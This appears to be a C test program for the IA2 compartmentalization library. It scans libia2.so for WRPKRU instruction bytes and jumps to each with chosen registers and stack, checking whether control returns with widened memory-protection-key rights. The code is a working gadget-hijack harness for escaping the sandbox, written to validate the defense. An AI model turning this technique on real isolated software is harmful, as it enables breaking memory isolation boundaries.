/* A destructor of `a` jumps to every WRPKRU in libia2.so with registers and a stack of its choosing: `gadgets [own]`.
 * An attempt pays when control comes back with more rights than before. With `own` the target is a WRPKRU of this
 * program that nobody looks after, to show that the attempts are sound. */
#include <link.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "board.h"
#include "ia2_exit_note.h"
#include "library.h"
#include "rights.h"

IA2_EXIT_COMPARTMENT(1);

enum { WORDS = 8192, PAID = 42, SECONDS = 20 };

/* What all registers but EAX, ECX, EDX and the stack pointer hold. */
enum pattern { ZERO, POINTERS, STACK, PATTERNS };

/* Everybody's memory: in front of a stack pointer that points to its middle, and behind it, addresses of `landed`; the
 * other one is all zeros, the value of PKRU with everything open. */
struct scratch {
    uintptr_t stack[WORDS];
    uintptr_t zeros[WORDS];
};

void landed(void);
void unguarded(void);
__attribute__((noreturn)) void attempt(uintptr_t target, uintptr_t registers, uintptr_t stack);

__asm__(".text\n"
        "unguarded: wrpkru\n ret\n"
        "attempt: movq %rdi, %rax\n movq %rdx, %rsp\n"
        "    movq %rsi, %rbx\n movq %rsi, %rbp\n movq %rsi, %rdi\n"
        "    movq %rsi, %r8\n movq %rsi, %r9\n movq %rsi, %r10\n movq %rsi, %r12\n movq %rsi, %r13\n"
        "    movq %rsi, %r14\n movq %rsi, %r15\n movq %rax, %r11\n"
        "    xorl %eax, %eax\n xorl %ecx, %ecx\n xorl %edx, %edx\n jmp *%r11\n"
        /* Wherever the stack pointer is now, there is room in the middle. */
        "landed: movq $0x200000000000, %rsp\n addq $0x40000, %rsp\n call after_landing\n hlt\n");

__attribute__((used, noreturn)) void after_landing(void) {
    _exit(rights_only(rights_now(), rights_key_of((const void *)&a_data)) ? 0 : PAID);
}

static bool pays(uintptr_t target, enum pattern pattern) {
    struct scratch *scratch = mmap(NULL, sizeof *scratch, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    CHECK(scratch != MAP_FAILED);
    for (int i = 0; i < WORDS; i++) {
        scratch->stack[i] = (uintptr_t)landed;
    }
    uintptr_t values[PATTERNS] = {0, (uintptr_t)&scratch->zeros[WORDS / 2], (uintptr_t)&scratch->stack[WORDS / 2]};
    pid_t child = fork();
    CHECK(child >= 0);
    if (child == 0) {
        alarm(SECONDS);
        attempt(target, values[pattern], (uintptr_t)&scratch->stack[WORDS / 2]);
    }
    int status;
    CHECK(waitpid(child, &status, 0) == child);
    CHECK(munmap(scratch, sizeof *scratch) == 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == PAID;
}

static void try_all(uintptr_t target) {
    for (enum pattern pattern = 0; pattern < PATTERNS; pattern++) {
        rights_say(pays(target, pattern) ? "paid" : "did not pay");
    }
}

static int search(struct dl_phdr_info *info, size_t size, void *unused) {
    (void)size;
    (void)unused;
    const char *name = strrchr(info->dlpi_name, '/');
    if (!name || strcmp(name, "/libia2.so") != 0) {
        return 0;
    }
    for (int i = 0; i < info->dlpi_phnum; i++) {
        const ElfW(Phdr) *segment = &info->dlpi_phdr[i];
        if (segment->p_type != PT_LOAD || !(segment->p_flags & PF_X)) {
            continue;
        }
        const unsigned char *code = (const unsigned char *)(info->dlpi_addr + segment->p_vaddr);
        for (size_t at = 0; at + 3 <= segment->p_memsz; at++) {
            if (memcmp(code + at, (const unsigned char[]){0x0f, 0x01, 0xef}, 3) == 0) {
                rights_say("gadget");
                try_all((uintptr_t)(code + at));
            }
        }
    }
    return 1;
}

static void attack(void) { CHECK(dl_iterate_phdr(search, NULL) == 1); }

static void attack_own(void) { try_all((uintptr_t)unguarded); }

int main(int argc, char **argv) {
    (void)argv;
    board_make();
    a_register_action(argc > 1 ? attack_own : attack);
    return 3;
}
